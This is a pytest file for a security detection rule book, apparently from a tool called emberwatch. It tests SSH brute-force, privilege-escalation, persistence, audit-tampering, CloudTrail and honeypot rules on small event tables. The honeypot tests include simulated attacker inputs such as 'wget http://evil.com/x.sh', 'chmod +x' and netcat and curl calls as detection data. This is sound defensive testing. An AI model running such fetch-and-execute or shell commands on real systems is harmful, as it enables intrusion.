"""The detection rules on small tables, with the thresholds they ship with."""

import json

import pytest
from events import START, at

from emberwatch import constants as K
from emberwatch.plans.rules import rule_book

RULES = rule_book().rules


def run(name, events):
    return RULES[name].run(events).orderBy("ord").collect()


def failures(ip, times, **more):
    return [dict(ts=at(t), source_ip=ip, auth_result="failed", **more) for t in times]


# --- password guessing ---------------------------------------------------------------------------
def test_five_failures_in_a_minute_fire(auth):
    events = auth(
        *failures("198.51.100.68", range(0, 25, 5)),
        *failures("10.0.0.4", range(0, 20, 5)),
        *failures("10.0.0.5", range(0, 100, 20)),
        *failures("10.0.0.6", [0, 15, 30, 45, 60]),
        dict(ts=at(20), source_ip="10.0.0.4", auth_result="accepted"),
        *failures("10.0.0.7", [0, 1]), *failures("10.0.0.8", [0, 1]),
        *failures("10.0.0.7", [2, 3]), *failures("10.0.0.8", [2, 3]),
    )
    found = {a.source_ip: a for a in run("det_001", events)}
    assert set(found) == {"198.51.100.68", "10.0.0.6"}
    alert = found["198.51.100.68"]
    assert alert.extra["attempt_count"] == "5"
    assert alert.extra["attack_speed"] == "slow_scan"
    assert alert.severity == "MEDIUM"
    assert (alert.first_seen, alert.last_seen) == (at(0), at(20))
    assert alert.dedup_key == "198.51.100.68"
    assert alert.description == (
        "5 failed SSH attempts from 198.51.100.68 in 20s — slow_scan"
    )


def test_users_do_not_split_a_burst(auth):
    rows = failures("1.1.1.1", range(0, 25, 5))
    for i, row in enumerate(rows):
        row["username"] = f"user{i}"
    assert [a.username for a in run("det_001", auth(*rows))] == ["user4"]


def test_burst_starts_over_after_a_hit(auth):
    assert len(run("det_001", auth(*failures("1.1.1.1", range(14))))) == 2
    assert len(run("det_001", auth(*failures("1.1.1.1", range(15))))) == 3


def test_speed_follows_the_rate(auth):
    alerts = run("det_001", auth(*failures("1.1.1.1", [0] * 5), *failures("1.1.1.2", [0, 0, 0, 0, 1])))
    assert {a.severity for a in alerts} == {"HIGH"}


def test_addresses_apart(auth):
    rows = [r for i in range(5) for r in failures(f"198.51.100.{68 + i}", [i * 5])]
    assert run("det_001", auth(*rows)) == []


@pytest.mark.parametrize(
    "count, success_ip, success_at, fires",
    [
        (5, "1.2.3.4", 50, True),
        (5, "1.2.3.4", 620, True),
        (4, "1.2.3.4", 45, False),
        (5, "1.2.3.4", 621, False),
        (0, "1.2.3.4", 0, False),
        (5, "1.2.3.4", -100, False),
        (5, "9.9.9.9", 30, False),
    ],
)
def test_success_after_failures(auth, count, success_ip, success_at, fires):
    success = dict(ts=at(success_at), source_ip=success_ip, auth_result="accepted", username="root")
    alerts = run("det_007", auth(*failures("1.2.3.4", [i * 5 for i in range(count)]), success))
    assert len(alerts) == int(fires)
    if fires:
        assert alerts[0].extra["attempt_count"] == "5"
        assert alerts[0].dedup_key == "1.2.3.4:root"
        assert alerts[0].first_seen == START
        assert alerts[0].extra["seconds_after_last_failure"] == f"{success_at - 20}.0"
        assert alerts[0].extra["last_failure_time"] == "2026-01-15 10:30:20+00:00"


# --- accounts ------------------------------------------------------------------------------------
def test_new_users(auth):
    alerts = run("det_003", auth(dict(new_username="newuser"), dict(new_username="root"), {}))
    assert [(a.username, a.severity) for a in alerts] == [("newuser", "HIGH"), ("root", "CRITICAL")]
    assert alerts[1].description == "New user 'root' created on h [SUSPICIOUS NAME]"


# --- kernel audit --------------------------------------------------------------------------------
def test_shadow_access(audit):
    unknown = dict(exe="/usr/bin/unknown", comm="unknown", key="shadow_access")
    alerts = run(
        "det_004",
        audit(
            dict(unknown, auid=1001, euid=1),
            dict(unknown, auid=1001, euid=1, exe="/usr/bin/passwd"),
            dict(unknown, auid=1000, euid=1001),
            dict(unknown, auid=1001, key="other_key"),
            dict(unknown, auid=1000, euid=0),
        ),
    )
    assert [a.ord.seq for a in alerts] == [0, 4]
    assert alerts[0].dedup_key == "/usr/bin/unknown:1001"
    assert alerts[0].severity == "CRITICAL"


def test_privilege_escalation(audit):
    sudo = dict(key="sudo_execution", exe="/usr/bin/sudo", uid=1000)
    alerts = run(
        "det_005",
        audit(
            dict(sudo, auid=1000), dict(sudo, key="some_other_key"),
            dict(sudo, key="some_other_key", euid=1000), dict(sudo, euid=1000),
            dict(sudo, auid=1001), dict(sudo, auid=K.UNSET_AUID), dict(sudo, auid=0),
        ),
    )
    assert [a.ord.seq for a in alerts] == [0, 4]
    assert alerts[0].dedup_key == "/usr/bin/sudo:1000:1234"


def test_cron(audit):
    cron = dict(key="cron_modification", syscall=257)
    alerts = run(
        "det_008",
        audit(
            cron, dict(cron, key="some_other_key"), dict(cron, syscall=1), dict(cron, auid=0),
            dict(cron, syscall=None), dict(cron, auid=K.UNSET_AUID),
        ),
    )
    assert [(a.ord.seq, a.severity) for a in alerts] == [(0, "CRITICAL"), (3, "HIGH")]
    assert alerts[0].rule_id == "rule_008_cron_persistence"
    assert alerts[0].dedup_key == "/usr/bin/python3:1000:None"
    assert alerts[0].description.startswith("Cron file modified: unknown by")


def test_audit_tamper(audit):
    assert K.TAMPER_KEYS == [
        "auditd_tamper", "auditd_rules_tamper", "syslog_tamper", "bootloader_tamper"
    ]
    rows = [dict(key=k, euid=e) for e in (1000, 0) for k in [*K.TAMPER_KEYS, "non_tamper_key"]]
    alerts = run("det_010", audit(*rows))
    assert [a.severity for a in alerts] == ["HIGH"] * 4 + ["CRITICAL"] * 4


def test_sudoers(audit):
    vim = dict(key="sudoers_tamper", name="/etc/sudoers", exe="/usr/bin/vim", comm="vim")
    alerts = run("det_011", audit(vim, dict(key="some_other_event"), vim))
    assert [(a.rule_id, a.severity) for a in alerts] == [("rule_011_sudoers_tamper", "CRITICAL")] * 2


ENUM = [
    ("/usr/bin/whoami", "/etc/passwd"), ("/usr/bin/id", "/etc/group"),
    ("/usr/bin/who", "/etc/sudoers"), ("/usr/bin/w", "/etc/shadow"),
    ("/usr/bin/getent", "/etc/passwd"),
]


@pytest.mark.parametrize(
    "exes, times, auids, fires",
    [
        (None, [0, 1, 2, 3, 4], [1000] * 5, True),
        (None, [0, 1, 2, 3, 4], [0, K.UNSET_AUID, 1000, 1000, 1000], False),
        ("/usr/bin/less", [0, 1, 2, 3, 4], [1000] * 5, True),
        ("/usr/bin/cat", [0, 1, 2, 3, 4], [1000] * 5, True),
        (None, [0, 1, 2, 3, 4], [1000, 1001, 1000, 1001, 1000], False),
        (None, [0, 30, 60, 90, 150], [1000] * 5, False),
    ],
)
def test_account_enumeration(audit, exes, times, auids, fires):
    rows = [
        dict(exe=exes or exe, name=name, ts=at(t), auid=a)
        for (exe, name), t, a in zip(ENUM, times, auids)
    ]
    alerts = run("det_012", audit(*rows))
    assert len(alerts) == int(fires)
    if fires:
        alert = alerts[0]
        assert (alert.severity, alert.first_seen, alert.last_seen) == ("HIGH", at(0), at(4))
        assert alert.dedup_key == "1000:2026-01-15 10:30:00+00:00"
        assert json.loads(alert.extra["files"]) == sorted({n for _, n in ENUM})
        assert json.loads(alert.extra["commands"]) == ["python3"]


def test_other_commands_are_not_enumeration(audit):
    rows = [dict(exe="/usr/bin/ls", name="/etc"), dict(exe="/usr/bin/cat", name="/etc/hosts")] * 3
    assert run("det_012", audit(*rows)) == []


@pytest.mark.parametrize(
    "times, auids, hits",
    [
        ([0] * 5, [1000] * 5, 1),
        ([i * 121 for i in range(5)], [1000] * 5, 0),
        ([0] * 5, [0] * 5, 0),
        ([0] * 4, [1000] * 4, 0),
        ([0] * 10, [1000] * 5 + [1001] * 5, 2),
        ([0, 24, 48, 72, 96, 121], [1000] * 6, 1),
        ([0, 119, 238, 357, 121], [1000] * 5, 0),
    ],
)
def test_system_discovery(audit, times, auids, hits):
    names = K.DISCOVERY_COMMANDS[:5] * 2
    rows = [dict(exe=n, ts=at(t), auid=a) for n, t, a in zip(names, times, auids)]
    alerts = run("det_013", audit(*rows))
    assert len(alerts) == hits
    assert {a.severity for a in alerts} <= {"MEDIUM"}


def test_masquerading(audit):
    cases = [
        ("/usr/bin/ssh", "sshd", {"name_mismatch"}),
        ("/tmp/sshd", "sshd", {"untrusted_path"}),
        ("/usr/bin/unattended-upgrades", "unattended-upgr", set()),
        ("/usr/bin/unattended-upgrades", "unattended", {"name_mismatch"}),
        ("/usr/bin/dash", "sh", set()),
        ("/usr/sbin/sshd", "sshd", set()),
        ("/usr/bin-evil/sshd", "sshd", {"untrusted_path"}),
        ("/tmp/evil", "sshd", {"name_mismatch", "untrusted_path"}),
        ("/usr/bin/python3.12", "tool.py", set()),
        ("", "", set()),
    ]
    alerts = run("det_014", audit(*[dict(exe=e, comm=c) for e, c, _ in cases]))
    found = [{a.extra["signal"] for a in alerts if a.ord.seq == i} for i in range(len(cases))]
    assert found == [signals for _, _, signals in cases]
    assert len(alerts) == 6
    assert {a.dedup_key for a in alerts if a.extra["signal"] == "untrusted_path"} == {None}
    assert alerts[0].dedup_key == "/usr/bin/ssh:sshd:1000:True"


# --- cloud audit ---------------------------------------------------------------------------------
def test_no_mfa(cloud):
    call = dict(event_name="DescribeMetricFilters")
    alerts = run(
        "det_002",
        cloud(
            {}, dict(mfa_authenticated=True), call, dict(call, error_code="AccessDenied"),
            dict(call, mfa_authenticated=None), dict(call, actor_type="AssumedRole"),
            dict(console_login="Failure"),
        ),
    )
    assert [(a.ord.seq, a.severity) for a in alerts] == [(0, "CRITICAL"), (2, "MEDIUM"), (6, "MEDIUM")]
    assert alerts[0].dedup_key == "buddy:ConsoleLogin"
    assert alerts[0].extra["mfa_authenticated"] == "false"


def test_root_login(cloud):
    root = dict(actor_type="Root")
    alerts = run(
        "det_006",
        cloud(
            root, dict(root, event_name="SomeOtherEvent"), {}, dict(root, console_login=None),
            dict(root, event_name="SomeOtherEvent", console_login=None),
        ),
    )
    assert [a.ord.seq for a in alerts] == [0]
    assert (alerts[0].source_ip, alerts[0].dedup_key) == (None, "203.0.113.5")


def test_trail_disabled(cloud):
    names = ["DeleteTrail", "StopLogging", "UpdateTrail", "PutEventSelectors", "SomeOtherEvent"]
    alerts = run("det_009", cloud(*[dict(event_name=n) for n in names]))
    assert [a.severity for a in alerts] == ["CRITICAL", "CRITICAL", "HIGH", "HIGH"]
    assert [a.description.split(" by ")[0] for a in alerts] == [
        f"CloudTrail impaired: {n}" for n in names[:4]
    ]


# --- honeypot ------------------------------------------------------------------------------------
def login(ok, seconds=5, **more):
    eventid = K.POT_LOGIN_OK if ok else K.POT_LOGIN_FAILED
    return dict(eventid=eventid, ts=at(seconds), username="root", password="123456", **more)


def typed(text, **more):
    return dict(eventid=K.POT_COMMAND, ts=at(10), input=text, **more)


def test_honeypot_sessions(honeypot):
    second = dict(login(True, 60), username="admin", password="admin")
    alerts = run(
        "det_015",
        honeypot(
            login(False, session_id="scan"),
            login(True, session_id="A"), login(True, session_id="B"),
            *[login(False, i, session_id="many") for i in range(3)],
            login(True, 30, session_id="many"), dict(second, session_id="many"),
            dict(eventid=K.POT_CLOSED, ts=at(90), session_id="many", duration_ms=90),
        ),
    )
    by_session = {a.extra["session_id"]: a for a in alerts}
    assert set(by_session) == {"A", "B", "many"}
    assert len({a.dedup_key for a in alerts}) == 3
    many = by_session["many"]
    assert many.extra["login_attempt_count"] == "5"
    assert many.username == "root" and "root/123456" in many.description
    assert (many.first_seen, many.last_seen) == (at(30), at(90))
    assert by_session["A"].last_seen == at(5)
    assert many.severity == "CRITICAL" and many.source_ip == "45.33.32.156"


@pytest.mark.parametrize(
    "inputs, tools, chmod",
    [
        (["wget http://evil.com/x.sh", "whoami"], ["wget"], "false"),
        (["echo notwgetreally"], [], "false"),
        (["wget http://evil.com/x.sh", "chmod +x x.sh"], ["wget"], "true"),
        (["ls -la"], [], "false"),
        (["nc -l | netcat; curl x"], ["curl", "nc", "netcat"], "false"),
        ([], [], "false"),
    ],
)
def test_honeypot_commands(honeypot, inputs, tools, chmod):
    (alert,) = run("det_015", honeypot(login(True), *[typed(t) for t in inputs]))
    assert json.loads(alert.extra["download_tools"]) == tools
    assert alert.extra["chmod_x_used"] == chmod
    assert alert.extra["command_count"] == str(len(inputs))


def test_no_sessions_no_alerts(honeypot):
    assert run("det_015", honeypot()) == []


# --- the book ------------------------------------------------------------------------------------
def test_all_rules_of_a_source_share_one_result(audit):
    events = audit(dict(exe="/tmp/evil", comm="sshd", key="sudoers_tamper"))
    alerts = rule_book().run_source(K.AUDITD, events).collect()
    assert sorted(a.rule_id for a in alerts) == [
        "rule_011_sudoers_tamper", "rule_014_masquerading", "rule_014_masquerading"
    ]


def test_register_rejects_other_columns(audit):
    from emberwatch.plans.alerts import Rule

    with pytest.raises(ValueError):
        rule_book().register(Rule("bad", K.AUDITD, 99, detect=lambda df: df), audit({}))
